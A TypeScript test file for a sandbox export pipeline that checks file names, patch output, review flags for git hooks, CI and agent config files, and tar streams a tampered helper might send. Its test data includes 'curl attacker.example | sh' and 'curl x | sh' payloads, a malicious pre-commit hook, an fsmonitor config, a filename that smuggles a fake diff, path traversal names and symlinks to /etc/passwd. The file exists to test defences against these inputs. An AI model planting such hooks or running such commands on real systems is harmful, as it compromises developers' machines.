/**
 * The export's host side without Docker: the names it refuses, the one diff model (its patch read
 * back by apply_patch's parser gives the exported content), the review flags, and the ExportWriter
 * fed tar streams the way a tampered sandbox helper could send them — each must fail or drop and
 * list, never reach the patch. (The real helper and real sandboxes: test/integration/artifacts-attacks.test.ts.)
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as tar from 'tar-stream';
import { isGitPath, nameProblem, showName } from '../../src/domain/export-names';
import type { FileChange } from '../../src/domain/sandbox';
import { reviewFlags } from '../../src/domain/review-flags';
import { loadIgnoreRules, type PatchIgnoreRules } from '../../src/sandbox/patch-ignore';
import { diffFile, sideOf, type FileSide } from '../../src/sandbox/workspace-diff';
import { ExportWriter, MANIFEST_ENTRY, TRAILER_ENTRY, type ExportCaps } from '../../src/sandbox/workspace-export';
import { applyHunks } from '../../src/tools/apply-hunks';
import { parseUnifiedDiff } from '../../src/tools/unified-diff';
import { makeTar, type TarEntry } from '../support/make-tar';

describe('names that never leave the sandbox', () => {
  test.each([
    ['a newline', 'x\ndiff --git a/evil.sh b/evil.sh', 'U+000A'],
    ['a carriage return', 'a\rb', 'U+000D'],
    ['a tab', 'a\tb', 'U+0009'],
    ['an escape (terminal control)', 'a\u001b[31mred', 'U+001B'],
    ['DEL', 'a\u007f', 'U+007F'],
    ['a C1 control (NEL)', 'a\u0085b', 'U+0085'],
    ['a right-to-left override', 'invoice\u202Efdp.exe', 'U+202E'],
    ['a left-to-right isolate', 'a\u2066b', 'U+2066'],
    ['a pop-directional isolate', 'a\u2069b', 'U+2069'],
    ['a right-to-left mark', 'a\u200fb', 'U+200F'],
    ['a line separator', 'a\u2028b', 'U+2028'],
    ['bytes that are not UTF-8 (decoded as U+FFFD)', 'caf\ufffd', 'not valid UTF-8'],
  ])('%s is refused', (_n, name, why) => {
    expect(nameProblem(name)).toContain(why);
    // eslint-disable-next-line no-control-regex -- the characters a shown name must not hold
    expect(showName(name)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u202a-\u202e\u2066-\u2069]/u);
  });

  test.each(['src/app.py', 'dir with spaces/file (1).txt', 'café/naïve.md', '日本語.txt', 'quote"and\\backslash', '-leading-dash', '😀.txt'])('%s is fine', (name) => {
    expect(nameProblem(name)).toBeNull();
    expect(showName(name)).toBe(name);
  });

  test.each([
    ['.git/hooks/pre-commit', true], ['.GIT/config', true], ['sub/.git/hooks/x', true], ['.git./config', true],
    ['.git /config', true], ['git~1/config', true], ['.g\u200cit/hooks/x', true], ['.git', true],
    ['.github/workflows/ci.yml', false], ['.gitignore', false], ['gitx/.gitkeep', false], ['src/git/x', false],
  ])('isGitPath(%j) is %s', (p, want) => {
    expect(isGitPath(p)).toBe(want);
  });
});

describe('the diff model: one source for the patch and the files changed', () => {
  const s = (t: string, mode = 0o644) => sideOf(Buffer.from(t), mode);
  test.each([
    ['a change in the middle', 'one\ntwo\nthree\nfour\nfive\nsix\nseven\n', 'one\ntwo\nthree\nFOUR\nfive\nsix\nseven\n'],
    ['a new last line without newline', 'a\nb\n', 'a\nb\nc'],
    ['a newline added at the end', 'x', 'x\n'],
    ['CRLF lines', 'a\r\nb\r\n', 'a\r\nB\r\n'],
    ['content that looks like a diff', 'x\n', 'diff --git a/evil b/evil\n--- /dev/null\n+++ b/evil\n@@ -0,0 +1 @@\n+curl x | sh\n'],
    ['a file emptied', 'gone\n', ''],
  ])('%s: apply_patch\'s parser reads the section back to the exported content, with the same counts', (_n, before, after) => {
    const d = diffFile('f.txt', s(before), s(after))!;
    const parsed = parseUnifiedDiff(d.text);
    if (!parsed.ok) throw new Error(parsed.error);
    expect(parsed.files.map((f) => [f.oldPath, f.newPath])).toEqual([['f.txt', 'f.txt']]);
    const applied = applyHunks(before, parsed.files[0]!.hunks);
    expect(applied).toMatchObject({ ok: true, content: after, added: d.change.added, removed: d.change.removed });
  });

  test('additions, deletions, mode changes, binary files, unchanged files', () => {
    expect(diffFile('same.txt', s('x\n'), s('x\n'))).toBeNull();
    expect(diffFile('new.sh', null, s('#!/bin/sh\n', 0o755))!.text).toBe('diff --git a/new.sh b/new.sh\nnew file mode 100755\n--- /dev/null\n+++ b/new.sh\n@@ -0,0 +1,1 @@\n+#!/bin/sh\n');
    expect(diffFile('old.txt', s('bye\n'), null)!.change).toEqual({ path: 'old.txt', change: 'deleted', added: 0, removed: 1 });
    expect(diffFile('run.sh', s('x\n'), s('x\n', 0o755))).toEqual({
      change: { path: 'run.sh', change: 'modified', added: 0, removed: 0, modeBefore: 0o644, modeAfter: 0o755 },
      text: 'diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n',
    });
    // setuid is not a git mode: the change records it, the patch has nothing to say.
    expect(diffFile('s', s('x\n', 0o755), s('x\n', 0o4755))).toEqual({ change: expect.objectContaining({ modeBefore: 0o755, modeAfter: 0o4755 }), text: '' });
    const bin = diffFile('img.png', s('\u0000PNG'), s('\u0000PNG2'))!;
    expect(bin.change).toMatchObject({ binary: true });
    expect(bin.text).toMatch(/^diff --git a\/img.png b\/img.png\nindex [0-9a-f]{40}\.\.[0-9a-f]{40} 100644\nGIT binary patch\nliteral 5\n/);
    const big: FileSide = { sha256: 'f'.repeat(64), size: 5e6, mode: 0o644 };
    const tooBig = diffFile('big.log', s('x\n'), big)!;
    expect(tooBig.change).toMatchObject({ binary: true, notInPatch: expect.stringContaining('5000000 bytes') });
    expect(tooBig.text).toBe('');
    expect(diffFile('my "q".txt', s('a\n'), s('b\n'))!.text).toContain('diff --git "a/my \\"q\\".txt" "b/my \\"q\\".txt"');
  });
});

describe('needs review', () => {
  const change = (path: string, c: Partial<FileChange> = {}): FileChange => ({ path, change: 'added', added: 1, removed: 0, ...c });
  test.each([
    ['.git/hooks/pre-commit', 'git-hook'], ['.git/hooks/post-checkout', 'git-hook'], ['sub/.git/hooks/pre-push', 'git-hook'], ['.GIT/HOOKS/pre-commit', 'git-hook'],
    ['.husky/pre-commit', 'git-hook'], ['.pre-commit-config.yaml', 'git-hook'],
    ['.git/config', 'git-config'], ['.git/worktrees/w/config.worktree', 'git-config'],
    ['.gitattributes', 'git-attributes'], ['src/.gitattributes', 'git-attributes'], ['.gitmodules', 'git-attributes'], ['.git/info/attributes', 'git-attributes'],
    ['vendor/lib/.git', 'git-dir'],
    ['.github/workflows/ci.yml', 'ci'], ['.GitHub/Workflows/release.yaml', 'ci'], ['.github/actions/setup/action.yml', 'ci'], ['.gitlab-ci.yml', 'ci'],
    ['.circleci/config.yml', 'ci'], ['Jenkinsfile', 'ci'], ['azure-pipelines.yml', 'ci'], ['.buildkite/pipeline.yml', 'ci'],
    ['.claude/settings.json', 'agent-config'], ['CLAUDE.md', 'agent-config'], ['docs/AGENTS.md', 'agent-config'], ['.cursor/rules/x.mdc', 'agent-config'],
    ['.cursorrules', 'agent-config'], ['.vscode/tasks.json', 'agent-config'], ['.vscode/settings.json', 'agent-config'], ['.mcp.json', 'agent-config'],
    ['.devcontainer/devcontainer.json', 'agent-config'], ['.envrc', 'agent-config'], ['.github/copilot-instructions.md', 'agent-config'],
    ['.vscode/extensions.json', 'agent-config'], ['.vscode/mcp.json', 'agent-config'], ['proj.code-workspace', 'agent-config'], ['.roo/mcp.json', 'agent-config'],
    ['.roomodes', 'agent-config'], ['.clinerules/rules.md', 'agent-config'], ['.continue/config.yaml', 'agent-config'], ['.zed/tasks.json', 'agent-config'],
    ['.amazonq/rules/x.md', 'agent-config'], ['.codex/config.toml', 'agent-config'], ['.gemini/settings.json', 'agent-config'], ['.aider.conf.yml', 'agent-config'],
    ['.idea/runConfigurations/x.xml', 'agent-config'], ['.run/x.run.xml', 'agent-config'], ['.windsurf/rules/x.md', 'agent-config'], ['.cursor/mcp.json', 'agent-config'],
    ['.VSCODE/tasks.json', 'agent-config'], ['VSCODE~1/tasks.json', 'agent-config'], ['.vscode./tasks.json', 'agent-config'], ['.vs\u200bcode/tasks.json', 'agent-config'],
    ['GITHUB~1/workflows/x.yml', 'ci'], ['.git::$INDEX_ALLOCATION/hooks/pre-commit', 'git-hook'], ['GIT~1/config', 'git-config'], ['.git/objects/info/alternates', 'git-internal'],
    ['.git/info/attributes', 'git-attributes'], ['.git/modules/sub/hooks/post-checkout', 'git-hook'], ['.git/worktrees/w/config.worktree', 'git-config'],
    ['.gitea/workflows/x.yml', 'ci'], ['.woodpecker/build.yml', 'ci'], ['ci/Jenkinsfile', 'ci'], ['tools/action.yml', 'ci'],
  ])('%s is flagged %s', (path, rule) => {
    expect(reviewFlags(change(path)).map((f) => f.rule)).toContain(rule);
    expect(reviewFlags(change(path, { change: 'modified' })).map((f) => f.rule)).toContain(rule);
  });

  test.each(['src/app.py', 'README.md', '.github/ISSUE_TEMPLATE/bug.md', '.git/hooks/pre-commit.sample', '.git/objects/ab/cdef', '.git/HEAD', '.git/refs/heads/main', '.git/logs/HEAD', '.git/index', '.git/COMMIT_EDITMSG', '.git/ORIG_HEAD', '.git/packed-refs', '.git/modules/sub/objects/pack/p.pack', '.gitignore', 'src/vscode/x.ts', 'docs/github/workflows.md'])('%s is not flagged', (path) => {
    expect(reviewFlags(change(path))).toEqual([]);
  });

  test('new executables and setuid/setgid bits are flagged; deletions and unchanged modes are not', () => {
    expect(reviewFlags(change('run.sh', { modeAfter: 0o755 })).map((f) => f.rule)).toEqual(['executable']);
    expect(reviewFlags(change('run.sh', { change: 'modified', modeBefore: 0o644, modeAfter: 0o755 }))[0]!.reason).toBe('made executable (mode 0755)');
    expect(reviewFlags(change('s', { modeAfter: 0o4755 })).map((f) => f.rule)).toEqual(['executable', 'setuid']);
    expect(reviewFlags(change('g', { change: 'modified', modeBefore: 0o755, modeAfter: 0o2755 }))).toEqual([
      { path: 'g', rule: 'setuid', reason: 'the setgid bit was set (mode 2755); git does not carry it, the tar drops it' },
    ]);
    expect(reviewFlags(change('run.sh', { change: 'modified' }))).toEqual([]);
    expect(reviewFlags(change('.github/workflows/ci.yml', { change: 'deleted' }))).toEqual([]);
  });
});

describe('ExportWriter against streams a tampered helper could send', () => {
  const caps: ExportCaps = { maxFileBytes: 1024 * 1024, maxTotalBytes: 4 * 1024 * 1024, maxEntries: 100 };
  let dir: string;
  beforeEach(() => { dir = mkdtempSync(join(tmpdir(), 'corral-export-unit-')); });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  const manifest = (skipped: unknown[] = []): TarEntry => ({ name: MANIFEST_ENTRY, body: JSON.stringify({ skipped, omitted: {} }) });
  const trailer = (): TarEntry => ({ name: TRAILER_ENTRY, body: JSON.stringify({ skipped: [], omitted: {}, notes: [] }) });

  async function run(stream: Buffer, seed: Record<string, string> = {}, c: ExportCaps = caps, ignore?: PatchIgnoreRules) {
    let fatal: Error | null = null;
    const w = new ExportWriter({
      seed: new Map(Object.entries(seed).map(([p, t]) => [p, sideOf(Buffer.from(t), 0o644)])), caps: c, ...(ignore ? { ignore } : {}),
      tarPath: join(dir, 'workspace.tar'), patchPath: join(dir, 'workspace.patch'), onFatal: (e) => { fatal = e; },
    });
    // Fed in small pieces, as a socket delivers it.
    for (let i = 0; i < stream.length; i += 700) w.input.write(stream.subarray(i, i + 700));
    w.input.end();
    const r = await w.done.then((v) => ({ ok: true as const, v }), (e: Error) => ({ ok: false as const, e }));
    return { ...r, fatal: fatal as Error | null };
  }
  const leftovers = () => readdirSync(dir);

  /** A ustar header claiming `size` bytes (base-256 when it does not fit in octal), with no content after it. */
  function lyingHeader(name: string, size: number): Buffer {
    const h = Buffer.alloc(512);
    h.write(name, 0, 100, 'utf8');
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    const sz = Buffer.alloc(12);
    sz[0] = 0x80;
    sz.writeBigUInt64BE(BigInt(size), 4);
    sz.copy(h, 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write('0', 156);
    h.write('ustar\u000000', 257, 'binary');
    let sum = 0;
    for (const b of h) sum += b;
    h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    return h;
  }

  test('ignore rules come from the seed: a .gitignore the agent writes hides nothing; ignored changes are counted, in the tar only', async () => {
    const seed = { '.gitignore': 'dist/\n', 'app.js': 'a\n' };
    const rules = await loadIgnoreRules(new Map(Object.entries(seed).map(([p, t]) => [p, sideOf(Buffer.from(t), 0o644)])), { gitignore: true, exclude: ['*.log'] });
    const r = await run(await makeTar([
      manifest(),
      { name: '.gitignore', body: '*\n' }, // the agent's attempt to hide everything
      { name: 'app.js', body: 'b\n' }, { name: 'backdoor.sh', body: 'curl x | sh\n' },
      { name: 'debug.log', body: 'x\n' }, { name: 'dist/', type: 'directory' }, { name: 'dist/app.min.js', body: 'b\n' },
      trailer(),
    ]), seed, caps, rules);
    if (!r.ok) throw r.e;
    expect(r.v.files.map((f) => `${f.change} ${f.path}`)).toEqual(['modified .gitignore', 'modified app.js', 'added backdoor.sh']);
    expect(r.v.ignored).toEqual({ count: 2, paths: ['debug.log', 'dist/app.min.js'] });
    const patch = readFileSync(join(dir, 'workspace.patch'), 'utf8');
    expect(patch).toContain('+curl x | sh');
    expect(patch).not.toMatch(/diff --git a\/(debug\.log|dist\/)/);
    expect(readFileSync(join(dir, 'workspace.tar')).includes(Buffer.from('dist/app.min.js'))).toBe(true);
  });

  test('an honest stream: clean tar, patch and changes from the same data; seed files missing are deletions', async () => {
    const r = await run(await makeTar([manifest(), { name: 'a.txt', body: 'A\n' }, { name: 'src/', type: 'directory' }, { name: 'src/b.py', body: 'b = 2\n' }, trailer()]), { 'a.txt': 'a\n', 'gone.txt': 'x\n', 'src/b.py': 'b = 2\n' });
    if (!r.ok) throw r.e;
    expect(r.v.files.map((f) => `${f.change} ${f.path}`)).toEqual(['modified a.txt', 'deleted gone.txt']);
    const patch = readFileSync(join(dir, 'workspace.patch'), 'utf8');
    expect(patch.match(/^diff --git a\/(\S+)/gm)).toEqual(['diff --git a/a.txt', 'diff --git a/gone.txt']);
    expect(r.v.stats).toMatchObject({ files: 2, dirs: 1 });
    const names: string[] = [];
    const ex = tar.extract();
    ex.on('entry', (h, s, next) => { names.push(`${h.type}:${h.name}:${h.mode.toString(8)}`); s.resume(); s.on('end', next); });
    await new Promise<void>((res) => { ex.on('finish', () => res()); ex.end(readFileSync(join(dir, 'workspace.tar'))); });
    expect(names).toEqual(['file:a.txt:644', 'directory:src/:755', 'file:src/b.py:644']);
    expect(leftovers().sort()).toEqual(['workspace.patch', 'workspace.tar']);
  });

  test('a header claiming a 20 GB file fails the export at once (no content is read) and leaves no artifacts', async () => {
    const head = await makeTar([manifest()]);
    const stream = Buffer.concat([head.subarray(0, head.length - 1024), lyingHeader('big.bin', 20 * 1024 ** 3)]);
    const r = await run(stream);
    expect(r.ok).toBe(false);
    expect(!r.ok && r.e.message).toMatch(/an entry of 21474836480 bytes is over the per-file cap/);
    expect(r.fatal).not.toBeNull();
    expect(leftovers()).toEqual([]);
  });

  test.each([
    ['no manifest', [{ name: 'a.txt', body: 'x' }, trailer()], /does not start with its manifest/],
    ['no trailer (cut short)', [manifest(), { name: 'a.txt', body: 'x' }], /ended before its trailer/],
    ['entries after the trailer', [manifest(), trailer(), { name: 'late.txt', body: 'x' }], /entries follow the trailer/],
    ['names out of order', [manifest(), { name: 'b.txt', body: 'x' }, { name: 'a.txt', body: 'x' }, trailer()], /"a.txt" is out of order/],
    ['a repeated name (a second copy to hide the first)', [manifest(), { name: 'a.txt', body: 'x' }, { name: 'a.txt', body: 'y' }, trailer()], /out of order or repeated/],
    ['an absolute name', [manifest(), { name: '/etc/passwd', body: 'x' }, trailer()], /absolute/],
    ['a .. name', [manifest(), { name: 'a/../../etc/x', body: 'x' }, trailer()], /\.\./],
    ['a manifest that is not JSON', [{ name: MANIFEST_ENTRY, body: 'not json' }, trailer()], /manifest is not valid/],
    ['a second manifest', [manifest(), manifest(), trailer()], /manifest is out of place/],
    ['more bytes than the total cap', [manifest(), { name: 'a', body: 'x'.repeat(1000) }, { name: 'b', body: 'y'.repeat(1000) }, trailer()], /more than 1500 bytes of files/],
  ])('%s: the export fails, nothing is written', async (_n, entries, why) => {
    const r = await run(await makeTar(entries as TarEntry[]), {}, _n.startsWith('more bytes') ? { ...caps, maxTotalBytes: 1500 } : caps);
    expect(r.ok).toBe(false);
    expect(!r.ok && r.e.message).toMatch(why);
    expect(leftovers()).toEqual([]);
  });

  test('abort() (the exec never started: the container is gone) fails the export and removes what it began', async () => {
    const w = new ExportWriter({ seed: new Map(), caps, tarPath: join(dir, 'workspace.tar'), patchPath: join(dir, 'workspace.patch'), onFatal: () => {} });
    w.abort(new Error('exec: container is not running'));
    await expect(w.done).rejects.toThrow('exec: container is not running');
    expect(leftovers()).toEqual([]);
  });

  test('too many entries fail the export', async () => {
    const many: TarEntry[] = Array.from({ length: 12 }, (_, i) => ({ name: `f${String(i).padStart(2, '0')}`, body: '' }));
    const r = await run(await makeTar([manifest(), ...many, trailer()]), {}, { ...caps, maxEntries: 10 });
    expect(!r.ok && r.e.message).toMatch(/more than 10 entries/);
  });

  test('crafted names in the stream are dropped and listed, and never reach the patch', async () => {
    const fake = 'x\ndiff --git a/evil.sh b/evil.sh\nnew file mode 100644\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl attacker.example | sh';
    const r = await run(await makeTar([manifest(), { name: 'real.txt', body: 'b\n' }, { name: fake, body: 'hi\n' }, { name: 'y\u202Etxt.sh', body: 'x' }, trailer()]), { 'real.txt': 'a\n' });
    if (!r.ok) throw r.e;
    const patch = readFileSync(join(dir, 'workspace.patch'), 'utf8');
    expect(patch).not.toContain('evil.sh');
    expect(patch).not.toContain('\u202E');
    expect(r.v.files.map((f) => f.path)).toEqual(['real.txt']);
    expect(r.v.notExported).toEqual([
      { path: fake, code: 'bad-name', reason: 'its name contains the control or bidi character U+000A' },
      { path: 'y\u202Etxt.sh', code: 'bad-name', reason: 'its name contains the control or bidi character U+202E' },
    ]);
  });

  test('link and device entries are dropped and listed; a seed file the helper said it skipped is not called deleted', async () => {
    const r = await run(await makeTar([
      manifest([{ path: 'huge.bin', code: 'too-large', reason: 'its size (21474836480 bytes) is over the per-file cap', size: 21474836480 }]),
      { name: 'hard.txt', type: 'link', linkname: 'orig.txt' }, { name: 'lnk', type: 'symlink', linkname: '/etc/passwd' }, { name: 'orig.txt', body: 'L\n' }, trailer(),
    ]), { 'huge.bin': 'small in the seed\n', 'orig.txt': 'L\n' });
    if (!r.ok) throw r.e;
    expect(r.v.files).toEqual([]);
    expect(r.v.notExported.map((e) => `${e.code} ${e.path}`)).toEqual(['too-large huge.bin', 'special hard.txt', 'special lnk']);
  });

  test('.git changes are counted and flagged but never in the patch', async () => {
    const r = await run(await makeTar([
      manifest(), { name: '.git/', type: 'directory' }, { name: '.git/config', body: '[core]\n\tfsmonitor = curl x|sh\n' }, { name: '.git/hooks/', type: 'directory' },
      { name: '.git/hooks/pre-commit', body: '#!/bin/sh\ncurl x | sh\n', mode: 0o755 }, { name: '.github/workflows/ci.yml', body: 'on: push\n' }, trailer(),
    ]), { '.git/config': '[core]\n' });
    if (!r.ok) throw r.e;
    expect(readFileSync(join(dir, 'workspace.patch'), 'utf8')).not.toMatch(/\.git\//);
    expect(r.v.files.map((f) => f.path)).toEqual(['.github/workflows/ci.yml']);
    expect(r.v.gitFiles.map((f) => `${f.change} ${f.path}`)).toEqual(['modified .git/config', 'added .git/hooks/pre-commit']);
    expect(r.v.needsReview.map((f) => `${f.rule} ${f.path}`)).toEqual(['git-config .git/config', 'git-hook .git/hooks/pre-commit', 'executable .git/hooks/pre-commit', 'ci .github/workflows/ci.yml']);
    expect(existsSync(join(dir, 'workspace.tar'))).toBe(true);
  });
});
